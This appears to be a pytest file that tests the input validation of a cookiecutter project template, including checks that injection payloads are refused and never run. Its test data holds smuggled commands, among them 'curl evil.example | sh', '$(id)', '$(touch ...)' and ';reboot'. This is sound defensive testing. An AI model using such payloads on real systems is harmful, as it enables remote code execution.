"""An answer that cannot work stops generation with one clear line and leaves nothing behind."""

from __future__ import annotations

import pytest
from cookiecutter.exceptions import FailedHookException

from tests.conftest import SKIP_LOCK, bake

BAD_ANSWERS = {
    "stacks-without-python-3.10": ({"python_version": "3.10", "base_image": "jupyter-scipy-notebook"},
                                   "base_image jupyter-scipy-notebook has no python-3.10 tag"),
    "stacks-without-python-3.14": ({"python_version": "3.14", "base_image": "jupyter-minimal-notebook"},
                                   "base_image jupyter-minimal-notebook has no python-3.14 tag"),
    "custom-base-left-empty": ({"base_image": "custom"}, "custom_base_image '' is not an image reference"),
    "slug-with-slash": ({"project_slug": "course/evil"}, "project_slug 'course/evil' is not valid"),
    "slug-dot-dot": ({"project_slug": ".."}, "project_slug '..' is not valid"),
    "slug-empty": ({"project_slug": ""}, "project_slug '' is not valid"),
    "slug-uppercase": ({"project_slug": "Intro"}, "project_slug 'Intro' is not valid"),
    "course-name-without-letters": ({"course_name": "📊 ✨"}, "project_slug '' is not valid"),
    "package-semicolon": ({"packages": "numpy; import os"}, "packages: 'numpy;' is not a plain requirement"),
    "package-newline": ({"packages": "numpy\nRUN curl evil.example | sh"}, "packages must be a single line"),
    "package-command-substitution": ({"packages": "$(touch /tmp/pwned)"},
                                     "packages: '$(touch' is not a plain requirement"),
    "package-url": ({"packages": "https://example.com/x.whl"},
                    "packages: 'https://example.com/x.whl' is not a plain requirement"),
    "package-index-url-option": ({"packages": "--index-url https://evil.example/simple numpy"},
                                 "packages: '--index-url' is not a plain requirement"),
    "port-too-low": ({"jupyter_port": "80"}, "jupyter_port '80' must be a number from 1024 to 65535"),
    "port-too-high": ({"jupyter_port": "70000"}, "jupyter_port '70000' must be a number from 1024 to 65535"),
    "apt-shell-characters": ({"apt_packages": "graphviz;reboot"}, "apt_packages: 'graphviz;reboot' is not"),
    "apt-command-substitution": ({"apt_packages": "$(id)"}, "apt_packages: '$(id)' is not"),
    "email-without-at": ({"instructor_email": "ada.example.edu"}, "instructor_email 'ada.example.edu' is not"),
    "registry-uppercase": ({"image_registry": "ghcr.io/My-Org"}, "image_registry 'ghcr.io/My-Org' is not valid"),
    "course-name-newline": ({"course_name": "Intro\nRUN id"}, "course_name must be a single line"),
}


@pytest.mark.parametrize(("answers", "message"), BAD_ANSWERS.values(), ids=BAD_ANSWERS.keys())
def test_bad_answer_fails_with_a_clear_message_and_no_output(answers, message, tmp_path, capfd):
    output = tmp_path / "output"
    output.mkdir()
    with pytest.raises(FailedHookException):
        bake(output, answers, SKIP_LOCK)
    errors = [line for line in capfd.readouterr().err.splitlines() if line.startswith("ERROR:")]
    assert len(errors) == 1
    assert errors[0].startswith(f"ERROR: {message}")
    assert list(output.iterdir()) == []
    assert list(tmp_path.iterdir()) == [output]


def test_unknown_python_version_is_refused_before_anything_is_written(tmp_path):
    # A choice answer outside its list never reaches the hooks: cookiecutter refuses it.
    with pytest.raises(ValueError, match="3.9 provided for choice variable python_version"):
        bake(tmp_path, {"python_version": "3.9"}, SKIP_LOCK)
    assert not tmp_path.exists() or list(tmp_path.iterdir()) == []


def test_injection_payload_is_never_run(tmp_path):
    marker = tmp_path / "pwned"
    with pytest.raises(FailedHookException):
        bake(tmp_path / "out",
             {"packages": f"numpy $(touch {marker})", "course_name": f"'''); open('{marker}', 'w')#"},
             SKIP_LOCK)
    assert not marker.exists()
